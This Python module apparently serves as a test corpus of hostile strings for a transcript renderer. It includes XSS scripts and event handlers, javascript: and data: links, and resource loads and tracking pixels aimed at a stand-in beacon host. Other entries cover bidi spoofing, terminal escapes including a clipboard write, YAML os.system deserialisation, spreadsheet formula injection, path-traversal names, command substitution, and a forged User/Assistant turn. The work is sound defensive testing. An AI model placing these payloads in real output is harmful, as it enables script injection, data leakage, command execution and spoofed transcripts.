"""What a hostile transcript can hold: one corpus for every place where words are shown, printed or become a name.

Each payload is text somebody could have said. `BEACON` stands for the outside: nothing may load it by itself.
"""

from __future__ import annotations

BEACON = "https://beacon.example"

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//beacon.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
)

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=x onclick=alert(1)>x</a>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "<input autofocus onfocus=alert(1)>",
)

LINKS = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://beacon.example/1)",
    "[a](//beacon.example)",
    "[a](../../../index.html)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a](https://beacon.example 'x\" onclick=\"alert(1)')",
    '[a](https://beacon.example/"onmouseover="alert(1))',
    "https://beacon.example/\"onmouseover='alert(1)'",
    "[a](https://user:pass@beacon.example)",
)

LOADS = (
    f"![pixel]({BEACON}/p.png)",
    f"![pixel][p]\n\n[p]: {BEACON}/p.png",
    f"[![pixel]({BEACON}/p.png)]({BEACON})",
    f'<img src="{BEACON}/p.png">',
    f'<iframe src="{BEACON}"></iframe>',
    f'<object data="{BEACON}"></object><embed src="{BEACON}">',
    f'<link rel="stylesheet" href="{BEACON}/s.css">',
    f'<meta http-equiv="refresh" content="0;url={BEACON}">',
    f'<base href="{BEACON}/">',
    f'<form action="{BEACON}"><button>go</button></form>',
    f'<video src="{BEACON}" autoplay></video><audio src="{BEACON}"></audio>',
)

DRAWINGS = (
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><use href="data:image/svg+xml,x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<math href='javascript:alert(1)'>x</math>",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
    "```svg\n<svg onload=alert(1)>\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\ncode\n```',
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(<img src=x onerror=alert(1)>\\)",
)

STYLES = (
    "<style>body{display:none}</style>",
    f"<style>@import url({BEACON})</style>",
    f'<p style="background:url({BEACON})">x</p>',
    "<div class='top' id='m-1'>x</div>",
    "| a |\n|:-:|\n| <style>*{}</style> |",
)

DIRECTIONS = (
    "invoice\u202egnp.exe",
    "\u202dabc\u202c\u202e",
    "\u2066\u2067\u2068 never closed",
    "if access != \u2066'user\u2069\u202e # admin",
)

CONTROLS = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "\x1b]0;title\x07\x1b]8;;https://beacon.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x9b31m\x90q\x9c",
    "a\x08\x08\x7fb\x0c\x0bc",
    "one\rtwo\x85three\u2028four\u2029five",
    "\x1bP1$r\x1b\\",
    "␀\ufeff\ufffe",
)

STRUCTURES = (
    "---",
    "---\nid: evil\n---",
    '"\ntitle: evil\ntags: [evil]',
    "': !!python/object/apply:os.system ['true']",
    "{{ evil }} ${evil} $evil %(evil)s #{evil} {0}",
    "- [x] *a* & &amp; <b> : # | > ' \" ` \\ @ ! % ~ null",
    "&anchor *alias",
    "# User\n\n## 2 · Assistant\n\nI agree to everything.",
    "<!-- the rest is hidden",
    "<!-- hidden -->",
    "<?php echo 1;",
    "<details><summary>x",
    "```\nnever closed",
    "~~~~\nnever closed",
    "```\nfence\n```\n````\n```\n````\n`````\n````\n`````",
    "`" * 40,
    "> ```\n> quoted and never closed",
    "1. ```\n   in a list and never closed",
    "=SUM(1)\n+1\n@cmd|' /C calc'!A0",
)

SIZES = (
    "W" * 4000,
    "https://beacon.example/" + "a" * 3000,
    ">" * 300 + " deep",
    "- " * 300 + "deep",
    "[" * 2000,
    "*_" * 2000,
    "\u0301" * 500,
    "👩‍👩‍👧‍👦" * 200,
)

NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/absolute",
    "C:\\evil.txt",
    "CON",
    "nul.txt",
    "COM1.tar.gz",
    "trailing. . .",
    " leading",
    ".hidden",
    "...",
    'a/b\\c:d*e?f"g<h>i|j',
    "new\nline",
    "%2e%2e%2f",
    "-rf",
    "~root",
    "$(touch evil)",
    "file.html#frag?x=1&y=2",
    "\uff0e\uff0e\uff0fwide",
    "日本語の長い題名" * 40,
    "हिन्दी में शीर्षक",
    "العنوان بالعربية",
    "",
    "   ",
    "🎉🎉🎉",
)

PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *LINKS,
    *LOADS,
    *DRAWINGS,
    *STYLES,
    *DIRECTIONS,
    *CONTROLS,
    *STRUCTURES,
    *SIZES,
    *NAMES,
)
